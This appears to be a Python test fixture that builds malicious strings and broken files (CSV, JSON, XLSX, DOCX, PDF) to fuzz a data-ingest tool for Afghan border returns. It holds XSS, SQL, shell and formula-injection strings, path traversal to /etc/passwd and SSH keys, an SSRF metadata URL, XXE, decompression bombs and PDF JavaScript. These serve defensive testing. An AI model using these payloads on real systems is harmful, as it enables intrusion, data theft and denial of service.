"""Input made to do harm, by class: strings for every door that takes a string, files for every door that takes a file."""

import codecs
import io
import json
import sqlite3
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from tests.geo.ingest import samples
from tests.geo.ingest.samples import ACLED

MARK = "__marz_was_run"


@dataclass(frozen=True)
class Word:
    """A string of a class."""

    kind: str
    text: str


@dataclass(frozen=True)
class Bad:
    """A file of a class: its name says for which door it was made."""

    kind: str
    name: str
    content: bytes


RUN = f"window.{MARK}=1"
WORDS: dict[str, list[str]] = {
    "markup": [
        f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"</script><script>{RUN}</script>",
        f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<a href=javascript:{RUN}>Islam Qala</a>",
        f"\"><script>{RUN}</script>", f"' onmouseover='{RUN}", f"<math><mtext></mtext><script>{RUN}</script></math>",
        f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<style>@import 'javascript:{RUN}'</style>",
        f"<video><source onerror={RUN}></video>", f"<input autofocus onfocus={RUN}>", f"<b/onclick={RUN}>x</b>",
        "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>", "<base href=http://198.51.100.7/>",
        "<link rel=stylesheet href=http://198.51.100.7/x.css>", "<img src=http://198.51.100.7/x.png>",
        f"<template><script>{RUN}</script></template>", "<!--", "<![CDATA[", "]]>", "&lt;script&gt;", "&#60;script&#62;",
        f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
        f"vbscript:{RUN}", f"[Islam Qala](javascript:{RUN})", f"![x](x' onerror='{RUN})", "<plaintext>", "<xmp>",
    ],
    "script": [
        f"';{RUN};//", f"\";{RUN};//", f"`;{RUN};`", f"\\';{RUN}//", f"\u2028{RUN}\u2029", f"-{RUN}-", f"${{{RUN}}}",
        "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "__defineGetter__",
    ],
    "template": [
        "{{7*7}}", "{{config}}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{0.__class__}", "{}", "{name!r:>99999999}", "%s%s%s%n", "%(name)s",
        "{{constructor.constructor('" + RUN + "')()}}", "$$x$$", ":material/delete:", ":red[x]", "$\\frac{1}{0}$",
    ],
    "formula": [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://198.51.100.7/\",\"x\")", "\t=1+1",
        "\r=1+1", "=IMPORTXML(CONCAT(\"http://198.51.100.7/\",A1),\"//a\")", "|calc", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    ],
    "path": [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "//198.51.100.7/x",
        "\\\\198.51.100.7\\x", "C:\\boot.ini", "/proc/self/environ", "/dev/zero", "/dev/stdin", "CON", "NUL", "..", ".",
        "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "~root/.ssh/id_rsa", "$HOME", "`id`", "$(id)", "| id",
        "; id", "&& id", "-rf", "--store=/tmp/x", "--help", "a/../../b", "secrets.toml", ".streamlit/secrets.toml",
        "http://169.254.169.254/latest/meta-data/", "http://localhost:1/", "gopher://127.0.0.1:1/", "dict://127.0.0.1:1/",
        "s3://bucket/x", "zip://x.zip", "/vsicurl/http://198.51.100.7/x", "/vsizip/x.zip", "sqlite:///x", "?mode=memory",
    ],
    "query": [
        "' or 1=1 --", "'; drop table claim; --", "\" or \"\"=\"", "1 union select 1", "%", "_", "*", "?", "\\", "'", "\"", "`",
        "') --", "*:*", "[a-", "(((((", "a{99999999}", "(a+)+$", "\\Q", "(?R)", "$where", "{$gt: ''}", "x' and randomblob(9)",
    ],
    "invisible": [
        "\u202eImal saQ\u202c", "\u2066Islam Qala\u2069", "Islam\u200bQala", "Islam\u200d\u200cQala", "\ufeffHerat", "He\u00adrat",
        "Herat\u034f", "\u200eHerat\u200f", "Herat\u2063\u2064", "\U000e0041\U000e0042", "Her\u0300\u0301\u0302at" * 3,
        "H\u0489e\u0489r\u0489a\u0489t", "\u180e", "\u2800", "\u3164", "\u115f", "\ufffc", "\ufffd", "\ufdd0", "\U0010ffff",
        "\ue000", "\u061c", "\u0640" * 60, "\u064b" * 60 + "هرات", "َ" * 500,
    ],
    "homoglyph": [
        "Неrаt", "Ηerat", "Ⲏerat", "Ｈｅｒａｔ", "𝐇𝐞𝐫𝐚𝐭", "𝕳𝖊𝖗𝖆𝖙", "ⓗⓔⓡⓐⓣ", "Ƕerat", "H3r4t", "Islаm Qаlа", "lslam Qala",
        "1slam Qala", "Ιѕӏam Qala", "هرات‎", "ھرات", "ﻫﺮﺍﺕ", "ەرات", "İSLAM QALA", "ıslam qala", "ǅ", "ﬀ", "ß", "ẞ", "㏂", "①",
    ],
    "control": [
        "\x00", "He\x00rat", "\x1b[2J\x1b[31mHerat", "\x1b]0;title\x07", "\x07", "\x08" * 20, "\x7f", "\x85", "\x9b31m", "\x0b", "\x0c",
        "\r\nSet-Cookie: x=1", "\n\n\n", "\t\t", "\u2028", "\ud800", "\udfff\ud800", "He\udc80rat", "\x1a", "\x04",
    ],
    "size": [
        "", " ", "a", "ا", "a" * 10_000, "Islam Qala " * 5_000, "\u0627" * 100_000, "a b " * 50_000, "(" * 50_000, "[" * 50_000,
        "1" * 50_000, "-" * 50_000, "," * 50_000, "'" * 50_000, "؟" * 50_000, "1/" * 25_000, "1404-" * 20_000, "۱۲۳۴" * 20_000,
        "2025-07-05 " * 5_000, "more than " * 5_000 + "5", "Herat, " * 10_000, "of " * 30_000, "and " * 30_000, "July " * 20_000,
        "Mr. " * 10_000, "\n" * 100_000, " " * 100_000, "0" * 10_000 + ".5", "a-" * 30_000, "and 5 " * 10_000, "ال" * 30_000,
        "هزار " * 10_000, "million " * 10_000, "five hundred " * 5_000, "returned " * 10_000, "😀" * 30_000, "\u0301" * 30_000,
    ],
    "day": [
        "30 February 2025", "2025-02-30", "2025-02-29", "2024-02-30", "1404-12-30", "1403-12-31", "1404-07-31", "0000-01-01", "0-0-0",
        "year 0", "-0001-01-01", "-1", "9999-12-31", "10000-01-01", "99999-01-01", "2025-13-01", "2025-00-10", "2025-01-00", "31/31/2025",
        "2025-W54-1", "2025-366", "2025-06-31", "2025-7-5", "20250705", "5/7/25", "2025-07-05T25:00", "2025-07-05T10:00+99:00",
        "2025-07-05/2025-07-01", "2025-07-05/..", "../2025-07-05", "2025-XX-XX", "2025?", "2025~", "Y-170000002", "1e3", "NaT", "None",
        "now", "yesterday", "1404-04-14 AD", "۱۴۰۴-۱۲-۳۰", "۳۰ فوریه ۲۰۲۵", "۳۰ اسفند ۱۴۰۴", "٣١-٠٦-٢٠٢٥", "1446-13-01", "2025–07–05",
        "२०२५-०७-०५", "²⁰²⁵-07-05", "2025-07-05\x00", "٢٠٢٥", "1404", "14", "14040414", "1969-12-31", "2100-01-01", "3000", "1300",
    ],
    "figure": [
        "NaN", "nan", "inf", "-inf", "Infinity", "1e400", "-1e400", "1e-400", "1e308", "-0", "-5", "0x10", "0b1", "1_000", "1,2,3,4", "1.2.3",
        "1..2", "++5", "--5", "5-3", "5–3", "10-5", "٫٫", "٬٬٬", "۱۲٫۵٫۶", "1/0", "½", "⅓", "Ⅷ", "一百", "٣½", "1e", "e5", "5e", "5%", "∞",
        "9" * 400, "0." + "0" * 400 + "1", "1" + ",000" * 200, "five hundred and and", "minus five", "a million billion trillion", "half of none",
        "more than nan", "at least -5", "between 9 and 3", "up to up to 5", "nearly", "about about", "2 million to 1 million",
        "۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹۹", "1 2 3 4 5", "1'000", "1\u202f000", "0 0", "000", "+", "-", ".", ",", "e", "True", "None", "[]",
    ],
}  # fmt: skip


ONCE_BROKE = frozenset([
    "long line.csv", "cr only.csv", "digits.json", "nan.xlsx", "row beyond.xlsx", "bad string.xlsx", "bad date.xlsx", "long line.txt", "laughs.docx",
    "cut xml.docx", "bomb.docx", "deep.docx", "unknown filter.pdf", "deep array.pdf", "①", "²⁰²⁵-07-05", "9" * 400, "He\udc80rat", "9999-12-31",
    "\x1b[2J\x1b[31mHerat", "؟" * 50_000, "هزار " * 10_000, "1" * 50_000,
])  # fmt: skip


def words() -> list[Word]:
    """All strings."""
    return [Word(kind, text) for kind, texts in WORDS.items() for text in texts]


POINTS = [
    ("NaN", "61"), ("34", "NaN"), ("inf", "61"), ("34", "-inf"), ("61.0", "34.7"), ("1e400", "61"), ("91", "61"), ("-91", "61"), ("34", "181"),
    ("0", "0"), ("", ""), ("34.7", ""), ("", "61"), ("34,7", "61,0"), ("34°42'N", "61°0'E"), ("3470000", "6100000"), ("-34.7", "-61"),
    ("34.7; 61.0", ""), ("0x22", "61"), ("34.7.1", "61"), ("34.7", "61.0e99"), ("None", "None"), ("٣٤٫٧", "٦١"), ("True", "False"),
]  # fmt: skip


def acled(**cells: str) -> str:
    """One row of an ACLED table, made up, with some cells as given."""
    return samples.text(ACLED, samples.acled(1, **cells)).split("\n", 1)[1].rstrip("\n")


def mapped(day: str, place: str, value: str) -> str:
    """One row of a table that a mapping reads."""
    return ",".join('"' + c.replace('"', '""') + '"' for c in (day, place, value))


def tables() -> Iterator[Bad]:
    """Tables with one spoilt cell each, and tables spoilt as a whole."""
    for word in words():
        text = word.text[:30_000].encode("utf-8", "surrogatepass").decode("utf-8", "replace")
        column = {"day": 0, "figure": 2}.get(word.kind, 1)
        cells = ["2025-07-05", "Islam Qala", "300"]
        cells[column] = text
        yield Bad(word.kind, "mapped.csv", f"day,place,returns\n{mapped(*cells)}\n".encode())
    for lat, lon in POINTS:
        yield Bad("coordinate", "acled.csv", f"{ACLED}\n{acled(latitude=lat, longitude=lon)}\n".encode())
    for column in ACLED.split(","):
        for text in (f"<img src=x onerror={RUN}>", "", "=1+1"):
            yield Bad("cell", "acled.csv", f"{ACLED}\n{acled(**{column: text})}\n".encode())
    yield from broken_tables()


def broken_tables() -> Iterator[Bad]:
    """Tables that are broken as files."""
    good = f"{ACLED}\n{acled()}\n"
    persian = "day,place,returns\n2025-07-05,هرات,5\n"
    for encoding in (
        "utf-16",
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "utf-7",
        "cp1256",
        "cp864",
        "iso8859_6",
        "shift_jis",
        "cp037",
        "utf-8-sig",
    ):
        yield Bad("encoding", f"{encoding}.csv", persian.encode(encoding, "replace"))
    for name, content in {
        "empty": b"", "blank": b"\n \n\n", "bom only": codecs.BOM_UTF8, "half a character": persian.encode()[:-4],
        "latin in utf-8": persian.encode() + b"\xe9\xff,1,2\n", "nul": good.encode().replace(b"Post", b"Po\0st"), "overlong": b"a,b\n\xc0\xaf,1\n",
        "surrogate": b"a,b\n\xed\xa0\x80,1\n", "unclosed": good.encode() + b'"AFG2,never', "quote inside": good.encode() + b'a"b"c,d\n',
        "no rows": ACLED.encode(), "two headers": f"{ACLED}\n{ACLED}\n{acled()}\n".encode(), "same column twice": good.replace("year", "iso").encode(),
        "short row": f"{ACLED}\nAFG1,2021\n".encode(), "long row": f"{ACLED}\n{acled()},,,,x\n".encode(), "no columns": b"\n" * 10_000,
        "many columns": b"a," * 200_000 + b"\n", "long cell": f"{ACLED}\n{acled(notes='x' * 2_000_000)}\n".encode(), "long line": b"a" * 5_000_000,
        "only quotes": b'"' * 300_000, "only commas": b"," * 300_000, "cr only": good.replace("\n", "\r").encode(), "mixed ends": good.replace("\n", "\r\n\n\r").encode(),
        "hxl tags alone": b"#date,#adm1,#affected\n", "hxl nonsense": b"d,p,v\n#date,#country+name,#inneed\nx,y,z\n", "control": b"a,b\n\x01\x02,3\n",
        "escape": f"{ACLED}\n{acled(notes=chr(27) + '[2J')}\n".encode(), "gzip": b"\x1f\x8b\x08\x00" + b"\0" * 50, "pdf as csv": b"%PDF-1.7\n", "elf": b"\x7fELF" + b"\0" * 99,
        "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "old excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "html error page": b"<!DOCTYPE html><title>404</title>",
        "sqlite": sqlite(), "parquet": b"PAR1" + b"\0" * 40 + b"PAR1", "pickle": b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x02os\x94.",
        "gdelt short": b"1\t20250705\t202507\n", "gdelt nan": b"\t".join([b"1", b"20250705", *[b"nan"] * 56]) + b"\n",
    }.items():  # fmt: skip
        yield Bad("broken CSV", f"{name}.csv", content)
    yield from trees()


def trees() -> Iterator[Bad]:
    """JSON and GeoJSON that is broken, deep, huge or not a table."""
    point = {"type": "Point", "coordinates": [61.0, 34.7]}
    for name, content in {
        "cut": b'{"items": [{"year": 1},', "deep": b"[" * 100_000, "deep objects": b'{"a":' * 100_000, "nan": b'[{"a": NaN}]', "infinity": b'[{"a": Infinity}]', "big": b'[{"a": 1e999}]',
        "digits": b'[{"a": ' + b"9" * 5_000 + b"}]", "twice": b'[{"a": 1, "a": 2}]', "empty list": b"[]", "scalar": b"[1]", "string": b'["x"]', "null": b"[null]", "mixed": b'[{"a": 1}, 5]',
        "comment": b'[{"a": 1} /* x */]', "comma": b'[{"a": 1},]', "single": b"[{'a': 1}]", "utf-16": '[{"a": 1}]'.encode("utf-16"), "surrogate": b'[{"a": "\\ud800"}]',
        "nul": b'[{"a": "\\u0000"}]', "proto": b'[{"__proto__": {"x": 1}}]', "nested": b'[{"a": {"b": [1, {"c": 2}]}}]', "many keys": json.dumps([{f"k{i}": 1 for i in range(20_000)}]).encode(),
        "items is text": b'{"items": "abc"}', "pages": b'{"items": [{"a": 1}], "maxPages": -1}',
        "geojson nan": json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [float("nan"), 1]}}]}).encode(),
        "geojson swapped": json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"a": 1}, "geometry": {"type": "Point", "coordinates": [34.7, 161]}}]}).encode(),
        "geojson open ring": json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1]]]}}]}).encode(),
        "geojson no geometry": json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature"}]}).encode(),
        "geojson crs": json.dumps({"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": "http://198.51.100.7/"}}, "features": [point]}).encode(),
    }.items():  # fmt: skip
        yield Bad("JSON", f"{name}.json", content)
    for name, content in {
        "empty.gpkg": b"", "cut.gpkg": sqlite()[:600], "no.gpkg": b"SQLite format 3\0" + b"\xff" * 200, "whole.gpkg": sqlite(),
        "a.shp": struct.pack(">i", 9994) + b"\0" * 96, "a.kml": BILLION.encode(), "a.gml": ENTITY.encode(),
    }.items():  # fmt: skip
        yield Bad("GPKG", name, content)
    yield from workbooks()


@cache
def sqlite() -> bytes:
    """A small database with a trigger and a view, as a file."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "a.gpkg"
        with closing(sqlite3.connect(path)) as base:
            base.executescript("create table gpkg_contents (a); create view v as select load_extension('/tmp/x');")
        return path.read_bytes()


LAUGH = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{LAUGH}]><x>&a9;</x>'
ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
REMOTE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd"><x/>'
SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"/></Relationships>'
BOOK = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
ROW = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>{1}</t></is></c><c r="B{0}" t="inlineStr"><is><t>{2}</t></is></c><c r="C{0}" t="{4}"><v>{3}</v></c></row>'
HEAD = '<row r="1"><c r="A1" t="inlineStr"><is><t>day</t></is></c><c r="B1" t="inlineStr"><is><t>place</t></is></c><c r="C1" t="inlineStr"><is><t>returns</t></is></c></row>'


def workbook(sheet: str, *, head: str = "", **more: bytes) -> bytes:
    """An XLSX file with this as the XML of its only sheet."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES, "_rels/.rels": RELS.format("officeDocument", "xl/workbook.xml"), "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": RELS.format("worksheet", "worksheets/sheet1.xml"), "xl/worksheets/sheet1.xml": head + sheet,
    }  # fmt: skip
    return zipped(parts | {name.replace("__", "/"): content for name, content in more.items()})


def zipped(parts: dict[str, str | bytes]) -> bytes:
    """A zip archive of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def workbooks() -> Iterator[Bad]:
    """XLSX files that are broken, too large, or made to read what they should not."""
    doctype, entity = BILLION[: BILLION.index("<x>")], ENTITY[: ENTITY.index("<x>")]
    row = HEAD + ROW.format(2, "2025-07-05", "{}", "300", "n")
    for name, content in {
        "laughs": workbook(SHEET.format(row.format("&a9;")), head=doctype), "entity": workbook(SHEET.format(row.format("&e;")), head=entity),
        "remote": workbook(SHEET.format(row.format("x")), head=REMOTE.removesuffix("<x/>")), "nan": workbook(SHEET.format(HEAD + ROW.format(2, "2025-07-05", "Herat", "NaN", "n"))),
        "huge number": workbook(SHEET.format(HEAD + ROW.format(2, "2025-07-05", "Herat", "1e999", "n"))), "error": workbook(SHEET.format(HEAD + ROW.format(2, "2025-07-05", "Herat", "#REF!", "e"))),
        "last row": workbook(SHEET.format(HEAD + ROW.format(1_048_576, "2025-07-05", "Herat", "5", "n"))), "far column": workbook(SHEET.format('<row r="1"><c r="XFD1"><v>1</v></c></row>')),
        "row beyond": workbook(SHEET.format(HEAD + ROW.format(99_999_999, "2025-07-05", "Herat", "5", "n"))), "bad string": workbook(SHEET.format('<row r="1"><c r="A1" t="s"><v>99</v></c></row>')),
        "bad date": workbook(SHEET.format('<row r="1"><c r="A1" t="d"><v>2025-99-99</v></c></row>')), "no cells": workbook(SHEET.format("")), "cut xml": workbook(SHEET.format(row)[:300]),
        "formula": workbook(SHEET.format(HEAD + '<row r="2"><c r="A2"><f>WEBSERVICE("http://198.51.100.7/")</f><v>1</v></c></row>')),
        "bomb": workbook(SHEET.format(" " * 400_000_000)), "macro": workbook(SHEET.format(row), xl__vbaProject_bin=b"x"), "no sheet": zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": BOOK}),
        "traversal": workbook(SHEET.format(row), **{"..__..__..__evil.txt": b"x"}), "plain zip": zipped({"a.csv": "a,b\n1,2\n"}), "cut": workbook(SHEET.format(row))[:400], "no zip": b"PK\x03\x04junk",
        "zip in zip": zipped({"a.zip": zipped({"b.csv": "a\n"})}), "types entity": zipped({"[Content_Types].xml": ENTITY, "xl/workbook.xml": BOOK}),
    }.items():  # fmt: skip
        yield Bad("XLSX", f"{name}.xlsx", content)


def texts() -> Iterator[Bad]:
    """Documents for the door that takes texts."""
    for word in words():
        raw = word.text.encode("utf-8", "surrogatepass")
        yield Bad(
            word.kind,
            "text.txt",
            b"title: A text\npublished: 2025-07-06\n\nIOM said 300 people returned at Islam Qala on 5 July: " + raw,
        )
    for word in [w for kind in ("markup", "day", "path") for w in WORDS[kind]]:
        yield Bad(
            "header", "head.txt", f"title: {word}\nurl: {word}\npublished: {word}\n\nThe gate was closed.".encode()
        )
    for encoding in ("utf-16", "utf-32", "cp1256", "cp1252", "shift_jis", "utf-7", "cp037"):
        yield Bad("encoding", f"{encoding}.txt", "Islam Qala – هرات was closed.".encode(encoding, "replace"))
    for name, content in {
        "empty.txt": b"", "blank.txt": b" \n\t", "nul.txt": b"\0" * 5_000, "binary.txt": bytes(range(256)) * 40, "header only.txt": b"title: x\n", "elf": b"\x7fELF\0\0",
        "long line.txt": b"On 5 July 300 people returned. " * 6_000, "long word.txt": b"a" * 2_000_000, "page.html": f"<p>On 5 July 300 people returned to Islam Qala.<script>{RUN}</script>".encode(),
        "deep.html": b"<div>" * 20_000 + b"x", "open.html": b"<p" * 20_000, "attributes.html": b"<p " + b"a=1 " * 50_000 + b">x</p>", "entities.html": b"&amp;" * 50_000, "cut.html": b"<html><bod",
        "empty.html": b"", "nul.html": b"<p>a\0b</p>", "remote.html": b"<html><head><base href=http://198.51.100.7/><link rel=stylesheet href=x.css></head><body><p>Islam Qala was closed.</p></body></html>",
        "meta.html": b"<meta http-equiv=refresh content='0;url=file:///etc/passwd'><p>closed", "xxe.html": ENTITY.encode(), "laughs.html": BILLION.encode(), "frames.html": b"<frameset><frame src=file:///etc/passwd></frameset>",
        "page.exe": b"MZ", "page.svg": b"<svg onload=x>", "page.rtf": b"{\\rtf1}", "page.odt": zipped({"content.xml": "<x/>"}),
    }.items():  # fmt: skip
        yield Bad("document", name, content)
    yield from papers()


DOCX = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
WORD_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'


def paper(body: str, *, head: str = "", **more: bytes) -> bytes:
    """A Word file with this as the XML of its body."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": WORD_TYPES, "_rels/.rels": RELS.format("officeDocument", "word/document.xml"),
        "word/document.xml": head + DOCX.format(body),
    }  # fmt: skip
    return zipped(parts | {name.replace("__", "/"): content for name, content in more.items()})


def papers() -> Iterator[Bad]:
    """Word and PDF files that are broken, too large, or made to read what they should not."""
    line = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    for name, content in {
        "laughs": paper(line.format("&a9;"), head=BILLION[: BILLION.index("<x>")]), "entity": paper(line.format("&e;"), head=ENTITY[: ENTITY.index("<x>")]),
        "cut xml": paper("<w:p><w:r>"), "cut": paper(line.format("x"))[:200], "no zip": b"PK\x03\x04junk", "empty": b"", "text": b"Islam Qala", "sheet": workbook(SHEET.format("")),
        "bomb": paper(line.format(" " * 400_000_000)), "deep": paper("<w:sdt>" * 5_000), "no body": zipped({"[Content_Types].xml": WORD_TYPES}),
        "remote": zipped({"[Content_Types].xml": WORD_TYPES, "_rels/.rels": RELS.format("officeDocument", "http://198.51.100.7/x"), "word/document.xml": DOCX.format("")}),
        "outside": zipped({"[Content_Types].xml": WORD_TYPES, "_rels/.rels": RELS.format("officeDocument", "../../../etc/passwd")}),
    }.items():  # fmt: skip
        yield Bad("DOCX", f"{name}.docx", content)
    for name, content in pdfs().items():
        yield Bad("PDF", f"{name}.pdf", content)


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right table of where they stand."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % p for p in places)
    return bytes(out + b"trailer << /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, start))


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), extra, content)


def pdfs() -> dict[str, bytes]:
    """PDF files by what is wrong with them."""
    catalog, kids = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    page = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>"
    write = b"BT /F1 12 Tf (Islam Qala was closed on 5 July 2025.) Tj ET"
    bomb = zlib.compress(zlib.compress(b"\0" * 300_000_000, 9), 9)
    good = pdf(catalog, kids, page, stream(write))
    return {
        "good": good, "cut": good[:300], "empty": b"", "head only": b"%PDF-1.7", "text": b"Islam Qala", "no trailer": good[: good.index(b"trailer")], "junk before": b"x" * 2000 + good,
        "own parent": pdf(catalog, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), "many pages": pdf(catalog, b"<< /Type /Pages /Kids [] /Count 2000000000 >>"), "no pages": pdf(b"<< /Type /Catalog >>"),
        "bomb": pdf(catalog, kids, page, stream(bomb, b"/Filter [/FlateDecode /FlateDecode]")), "bad flate": pdf(catalog, kids, page, stream(b"not zlib", b"/Filter /FlateDecode")),
        "unknown filter": pdf(catalog, kids, page, stream(b"x", b"/Filter /Nope")), "wrong length": good.replace(b"/Length 5", b"/Length 9999995"), "encrypted": good.replace(b"/Root", b"/Encrypt << /Filter /Standard /V 4 >> /Root"),
        "script": pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", kids, page, stream(write)), "deep array": pdf(catalog, b"[" * 5_000 + b"]" * 5_000),
        "deep dictionary": pdf(catalog, b"<< /A " * 5_000 + b">>" * 5_000), "prev loop": good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9"), "xref far": good.replace(b"startxref\n", b"startxref\n99999999"), "no text": pdf(catalog, kids, page, stream(b"")),
        "nested text": pdf(catalog, kids, page, stream(b"q " * 200_000 + write)), "many operators": pdf(catalog, kids, page, stream(b"BT /F1 12 Tf " + b"(a) Tj " * 100_000 + b"ET")),
    }  # fmt: skip


def seeds_files() -> Iterator[Bad]:
    """Whole files in the place of a file of seeds."""
    for bad in broken_tables():
        if bad.kind in {"encoding", "broken CSV"}:
            yield bad
